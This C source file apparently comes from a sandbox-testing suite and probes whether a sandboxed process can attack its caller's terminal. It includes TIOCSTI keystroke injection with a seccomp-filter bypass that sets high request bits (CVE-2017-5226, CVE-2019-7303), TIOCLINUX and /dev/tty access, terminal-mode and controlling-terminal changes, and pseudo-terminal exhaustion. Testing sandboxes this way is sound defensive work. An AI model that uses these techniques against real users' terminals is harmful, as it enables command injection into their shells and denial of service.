// Attacks through the caller's terminal: characters pushed into its input are read by the caller's shell
// later.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <termios.h>

#include "attack.h"

// "0" to "2" is a standard stream, anything else a path.
static int terminal_named(const char* name) {
  if (strlen(name) == 1 && name[0] >= '0' && name[0] <= '2') return name[0] - '0';
  int fd = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (fd < 0) refused("open %s", name);
  return fd;
}

// CVE-2017-5226, and with "high" CVE-2019-7303: the kernel reads 32 bits of the request, a filter sees 64.
static void push_input(int argc, char** argv) {
  if (argc < 1) broken("usage: tiocsti TERMINAL [high]");
  unsigned long request = TIOCSTI;
  if (argc > 1 && strcmp(argv[1], "high") == 0) request |= 1UL << 32;
  int fd = terminal_named(argv[0]);
  for (const char* next = "INJECTED\n"; *next != '\0'; ++next)
    if (syscall(SYS_ioctl, fd, request, next) != 0) refused("TIOCSTI on %s", argv[0]);
  won("the caller's terminal has new input");
}

// The virtual console's cut and paste does the same. Any other terminal answers ENOTTY, which means that only
// the kind of the device stood between.
static void paste(int argc, char** argv) {
  if (argc < 1) broken("usage: tioclinux TERMINAL [high]");
  unsigned long request = TIOCLINUX;
  if (argc > 1 && strcmp(argv[1], "high") == 0) request |= 1UL << 32;
  int fd = terminal_named(argv[0]);
  char subcode = 6;  // TIOCL_GETSHIFTSTATE: asks, changes nothing
  if (syscall(SYS_ioctl, fd, request, &subcode) == 0 || errno == ENOTTY || errno == EINVAL)
    won("TIOCLINUX reached the terminal's driver");
  refused("TIOCLINUX on %s", argv[0]);
}

// A process that stayed in the caller's session has the caller's terminal as /dev/tty, whatever its streams
// are.
static void open_terminal(int argc, char** argv) {
  (void)argc, (void)argv;
  int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (fd < 0) refused("open /dev/tty");
  won("/dev/tty is the caller's terminal");
}

// The caller's terminal changed under its hands: modes, foreground group, a new controlling terminal.
static void change_terminal(int argc, char** argv) {
  (void)argc, (void)argv;
  for (int stream = 0; stream <= 2; ++stream) {
    struct termios modes;
    pid_t group = 0;
    if (tcgetattr(stream, &modes) == 0) {
      if (tcsetattr(stream, TCSANOW, &modes) == 0) won("the modes of the caller's terminal can be set");
      won("the modes of the caller's terminal can be read");
    }
    if (ioctl(stream, TIOCGPGRP, &group) == 0) won("the caller's foreground group is %d", (int)group);
    if (ioctl(stream, TIOCSCTTY, 0) == 0) won("the caller's terminal is ours");
  }
  refused("no stream is a terminal");
}

// Terminals are counted for the whole machine: whoever may open them without end leaves none for other
// sandboxes.
static void flood(int argc, char** argv) {
  (void)argc, (void)argv;
  enum { kMany = 600 };
  struct rlimit files = {kMany + 64, kMany + 64};
  if (setrlimit(RLIMIT_NOFILE, &files) != 0) broken("setrlimit");
  int opened = 0;
  while (opened < kMany && open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC) >= 0) ++opened;
  if (opened == kMany) won("%d terminals were opened", opened);
  refused("%d terminals were opened", opened);
}

const Attack kTerminalAttacks[] = {
    {"tiocsti", push_input},          {"tioclinux", paste},
    {"open-terminal", open_terminal}, {"change-terminal", change_terminal},
    {"terminal-flood", flood},        {NULL, NULL},
};
